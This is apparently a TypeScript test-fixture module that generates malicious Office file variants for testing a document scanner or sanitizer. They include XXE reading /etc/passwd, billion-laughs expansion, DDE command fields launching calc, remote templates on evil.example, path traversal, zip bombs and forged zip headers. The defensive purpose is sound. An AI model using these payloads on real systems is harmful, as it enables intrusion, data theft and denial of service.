import { Document, ImageRun, Packer, Paragraph, Table, TableCell, TableRow } from 'docx'
import ExcelJS from 'exceljs'
import { unzipSync, type Zippable, zipSync } from 'fflate'
import { eicar } from './eicar.ts'
import { jpg } from './pictures.ts'

export async function docx(canary = '-'): Promise<Buffer> {
  const picture = new ImageRun({
    type: 'jpg',
    data: await jpg(canary, 200, 100),
    transformation: { width: 200, height: 100 },
  })
  const cell = (text: string) => new TableCell({ children: [new Paragraph(text)] })
  const rows = [new TableRow({ children: [cell('项目'), cell('金额')] })]
  const children = [
    new Paragraph('合同补充说明'),
    new Paragraph({ children: [picture] }),
    new Table({ rows }),
  ]
  const by = { creator: canary, lastModifiedBy: canary, title: canary, description: canary }
  return Packer.toBuffer(new Document({ ...by, sections: [{ children }] }))
}

export async function xlsx(canary = '-'): Promise<Buffer> {
  const book = new ExcelJS.Workbook()
  book.creator = canary
  const sheet = book.addWorksheet('明细')
  sheet.addRow(['名称', '日期', '合计'])
  sheet.addRow(['设备', new Date('2026-03-05'), { formula: '1+1', result: 2 }])
  sheet.getCell('A3').value = { text: '官网', hyperlink: 'https://example.com/' }
  const note = sheet.getCell('B2')
  note.note = canary
  book.addWorksheet('内部', { state: 'hidden' }).addRow([canary])
  return Buffer.from(await book.xlsx.writeBuffer())
}

type Change = (parts: Record<string, Uint8Array>) => void
const bytes = (text: string) => Buffer.from(text)

/** An office file with some of its parts changed. */
export async function changed(file: Promise<Buffer>, change: Change): Promise<Buffer> {
  const parts = unzipSync(await file)
  change(parts)
  return Buffer.from(zipSync(parts as Zippable))
}

const edit =
  (name: string, from: string | RegExp, to: string): Change =>
  (parts) => {
    const text = Buffer.from(parts[name] ?? []).toString()
    const after = text.replace(from, to)
    if (after === text) throw new Error(`nothing to change in ${name}`)
    parts[name] = bytes(after)
  }
const add =
  (name: string, text: string | Uint8Array): Change =>
  (parts) => {
    parts[name] = typeof text === 'string' ? bytes(text) : text
  }

const text = 'word/document.xml'
const rels = 'word/_rels/document.xml.rels'
const relation = (type: string, target: string, more = '') =>
  `<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${more}/></Relationships>`

export const withMacros = () => changed(docx(), add('word/vbaProject.bin', 'macro'))
export const asDocm = () =>
  changed(
    docx(),
    edit(
      '[Content_Types].xml',
      /application\/[^"]*document\.main\+xml/,
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    ),
  )
export const withTemplate = () =>
  changed(
    docx(),
    edit(
      rels,
      '</Relationships>',
      relation('attachedTemplate', 'http://evil.example/t.dotm', ' TargetMode="External"'),
    ),
  )
export const withRemotePicture = () =>
  changed(
    docx(),
    edit(
      rels,
      '</Relationships>',
      relation('image', 'http://evil.example/p.png', ' TargetMode="External"'),
    ),
  )
export const withOle = () => changed(docx(), add('word/embeddings/oleObject1.bin', 'ole'))
export const withEntity = () =>
  changed(
    docx(),
    edit(
      text,
      /<\?xml[^>]*\?>/,
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
  )
export const withLaughs = () => {
  const levels = Array.from(
    { length: 9 },
    (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
  )
  const doctype = `<!DOCTYPE a [<!ENTITY l0 "ha">${levels.join('')}]>`
  return changed(docx(), edit(text, /<\?xml[^>]*\?>/, `<?xml version="1.0"?>${doctype}`))
}
export const withField = () =>
  changed(
    docx(),
    edit(
      text,
      '<w:t ',
      '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe "/k calc"</w:instrText><w:t ',
    ),
  )
export const withRevisions = (canary: string) =>
  changed(
    docx(),
    edit(
      text,
      '<w:t ',
      `<w:del w:author="${canary}" w:id="1"><w:delText>${canary}</w:delText></w:del><w:t `,
    ),
  )
export const withEicar = () => changed(docx(), add('word/media/a.bin', eicar))
export const withClimbingPart = () => changed(docx(), add(`${'../'.repeat(2)}evil.xml`, '<a/>'))
export const withDeepXml = () =>
  changed(
    docx(),
    edit(text, '<w:body>', `<w:body>${'<w:sdt>'.repeat(5_000)}${'</w:sdt>'.repeat(5_000)}`),
  )
export const withFormula = () =>
  changed(xlsx(), edit('xl/worksheets/sheet1.xml', /<f>[^<]*<\/f>/, "<f>cmd|'/C calc'!A0</f>"))
export const withOutsideBook = () =>
  changed(xlsx(), add('xl/externalLinks/externalLink1.xml', '<a/>'))
export const presentation = () =>
  changed(
    docx(),
    edit(
      '[Content_Types].xml',
      /application\/[^"]*document\.main\+xml/,
      'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
    ),
  )
export const plainZip = () => Promise.resolve(Buffer.from(zipSync({ 'a.txt': bytes('hello') })))

/** Parts that are each small and together are not. */
export const bombOfParts = () =>
  changed(docx(), (parts) => {
    for (let n = 0; n < 12; n += 1) parts[`word/p${n}.xml`] = Buffer.alloc(16 * 1024 ** 2, 32)
  })
/** One part that comes to a thousand times its size. */
export const bombOfOne = () =>
  changed(docx(), add('word/big.xml', Buffer.alloc(23 * 1024 ** 2, 97)))
export const manyParts = () =>
  changed(docx(), (parts) => {
    for (let n = 0; n < 2_500; n += 1) parts[`word/n${n}.xml`] = bytes('<a/>')
  })

/** The directory says that a part is small; it is not. */
export async function lyingPart(): Promise<Buffer> {
  const file = await bombOfOne()
  const name = Buffer.from('word/big.xml')
  for (let at = file.indexOf(name); at >= 0; at = file.indexOf(name, at + 1)) {
    const central = file.readUInt32LE(at - 46) === 0x02014b50
    if (central || file.readUInt32LE(at - 30) === 0x04034b50) {
      file.writeUInt32LE(1_000, central ? at - 46 + 24 : at - 30 + 22)
    }
  }
  return file
}

/** Two parts of one name: which of them counts is for each program to guess. */
export async function twinParts(): Promise<Buffer> {
  const file = await changed(docx(), add('word/documenX.xml', '<a/>'))
  for (let at = file.indexOf('documenX'); at >= 0; at = file.indexOf('documenX')) {
    file.write('document', at, 'latin1')
  }
  return file
}
/** A part that says of itself that it is encrypted. */
export async function lockedZip(): Promise<Buffer> {
  const file = await docx()
  for (let at = file.indexOf('PK\x01\x02'); at >= 0; at = file.indexOf('PK\x01\x02', at + 1)) {
    file.writeUInt16LE(file.readUInt16LE(at + 8) | 1, at + 8)
  }
  return file
}
